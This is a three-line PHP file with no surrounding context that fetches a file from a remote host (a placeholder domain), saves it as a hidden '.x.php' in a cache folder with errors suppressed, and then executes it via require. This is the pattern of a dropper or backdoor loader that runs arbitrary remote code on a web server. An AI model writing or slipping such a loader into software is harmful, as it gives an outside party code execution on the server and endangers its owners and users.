<?php
@copy("https://files.example.invalid/a.txt", "cache/.x.php");
require "cache/.x.php";
